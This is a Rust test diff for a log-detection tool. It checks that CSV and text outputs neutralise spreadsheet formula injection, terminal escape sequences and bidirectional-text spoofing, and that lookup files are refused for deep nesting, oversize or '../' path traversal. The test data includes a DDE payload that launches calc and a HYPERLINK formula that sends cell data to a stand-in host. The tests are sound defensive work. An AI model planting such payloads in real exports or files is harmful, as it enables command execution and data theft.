@@ -297,3 +297,119 @@ fn deeply_nested_yaml_is_refused_before_parsing() {
     );
     assert!(Detection::from_yaml(&at_limit, path).is_ok());
 }
+
+/// Sysmon process launches as flat JSON lines, one per command line, all at one time.
+fn json_launches(commands: &[&str]) -> String {
+    commands
+        .iter()
+        .map(|command| {
+            serde_json::json!({
+                "EventID": 1,
+                "Channel": "Microsoft-Windows-Sysmon/Operational",
+                "@timestamp": "2021-01-01T00:00:00Z",
+                "Hostname": "ws01",
+                "Image": r"C:\Windows\System32\cmd.exe",
+                "CommandLine": command,
+                "User": r"LAB\alice",
+            })
+            .to_string()
+                + "\n"
+        })
+        .collect()
+}
+
+/// The rows of `| tstats count … by Processes.process` over `commands` logged as events:
+/// CSV, raw CSV and the text table, one after another.
+fn outputs_of_logged_commands(commands: &[&str]) -> String {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("launches.json");
+    std::fs::write(&path, json_launches(commands)).unwrap();
+    let search = Search::compile(
+        "| tstats count from datamodel=Endpoint.Processes by Processes.process",
+        &MacroTable::new(),
+        "none_filter",
+    )
+    .unwrap();
+    let outcome =
+        detection::scan::scan_files(&[&search], &[path], detection::scan::ScanOptions::default())
+            .unwrap();
+    let table = &outcome.tables[0];
+    let (mut csv, mut raw, mut text) = (Vec::new(), Vec::new(), Vec::new());
+    table.write_csv(&mut csv).unwrap();
+    table.write_csv_raw(&mut raw).unwrap();
+    table.write_text(&mut text).unwrap();
+    let [csv, raw, text] = [csv, raw, text].map(|bytes| String::from_utf8(bytes).unwrap());
+    format!("csv:\n{csv}\nraw csv:\n{raw}\ntext:\n{text}")
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    // OWASP's CSV injection guidance: cells starting with `=`, `+`, `-`, `@`, tab or CR get a
+    // leading `'` and quotes; the raw writer keeps every value exact.
+    let commands = [
+        "=cmd|' /C calc'!A0",
+        "+1+2",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "=HYPERLINK(\"http://x.test/?\"&A1)",
+        "plain, with a comma",
+        "a=b-c+d@e",
+    ];
+    let outputs = outputs_of_logged_commands(&commands);
+    let csv = outputs.split("raw csv:").next().unwrap();
+    for line in csv.lines().skip(2) {
+        let first = line.trim_start_matches('"').chars().next();
+        assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{line:?}");
+    }
+    with_snapshots(|| insta::assert_snapshot!("outputs@formulas", outputs));
+}
+
+#[test]
+fn text_table_escapes_control_characters_and_keeps_a_row_per_value() {
+    // A line break must not forge a row; ESC, BEL and NUL must not reach the terminal, nor
+    // a mark that reverses the text after it.
+    let commands = [
+        "evil\n  forged-row                 1",
+        "\u{1b}[2J\u{1b}]0;owned\u{7}clear",
+        "nul\u{0}byte",
+        "rtl \u{202e}exe.txt",
+        r"C:\Windows\System32\rundll32.exe plain",
+    ];
+    let outputs = outputs_of_logged_commands(&commands);
+    let text = outputs.split("text:\n").nth(1).unwrap();
+    assert!(!text.contains(['\u{1b}', '\u{7}', '\u{0}', '\u{202e}']), "{text:?}");
+    // The header, its rule and one line per row.
+    assert_eq!(text.lines().count(), 2 + commands.len(), "{text}");
+    with_snapshots(|| insta::assert_snapshot!("outputs@control_characters", outputs));
+}
+
+#[test]
+fn lookup_definitions_have_the_limits_of_rules() {
+    // Lookup definitions were read whole and parsed without the nesting guard, so `validate`
+    // and `run` spent minutes on a 1 MiB `[[[…]]]` file under `lookups/`.
+    let dir = tempfile::tempdir().unwrap();
+    let lookups = dir.path().join("lookups");
+    std::fs::create_dir_all(&lookups).unwrap();
+    let depth = 300_000;
+    let deep = format!("name: deep\nnesting: {}{}\n", "[".repeat(depth), "]".repeat(depth));
+    std::fs::write(lookups.join("deep.yml"), deep).unwrap();
+    let start = Instant::now();
+    let error = detection::lookup::Lookups::load(dir.path()).unwrap_err().to_string();
+    assert!(error.ends_with("deep.yml: brackets nested deeper than 1000 levels"), "{error}");
+    assert!(start.elapsed() < Duration::from_secs(10), "took {:?}", start.elapsed());
+
+    std::fs::remove_file(lookups.join("deep.yml")).unwrap();
+    let cap = usize::try_from(MAX_CONTENT_FILE_BYTES).unwrap();
+    std::fs::write(lookups.join("big.yml"), format!("name: big\n#{}\n", " ".repeat(cap))).unwrap();
+    let error = detection::lookup::Lookups::load(dir.path()).unwrap_err().to_string();
+    assert!(error.ends_with("big.yml: file larger than 1048576 bytes"), "{error}");
+
+    // A definition's file name is a file in `lookups/`, never a path out of it.
+    std::fs::remove_file(lookups.join("big.yml")).unwrap();
+    std::fs::write(dir.path().join("secret.csv"), "a\nb\n").unwrap();
+    std::fs::write(lookups.join("out.yml"), "name: out\nfilename: ../secret.csv\n").unwrap();
+    let error = detection::lookup::Lookups::load(dir.path()).unwrap_err().to_string();
+    assert!(error.contains("`../secret.csv` is not a file name in lookups/"), "{error}");
+}
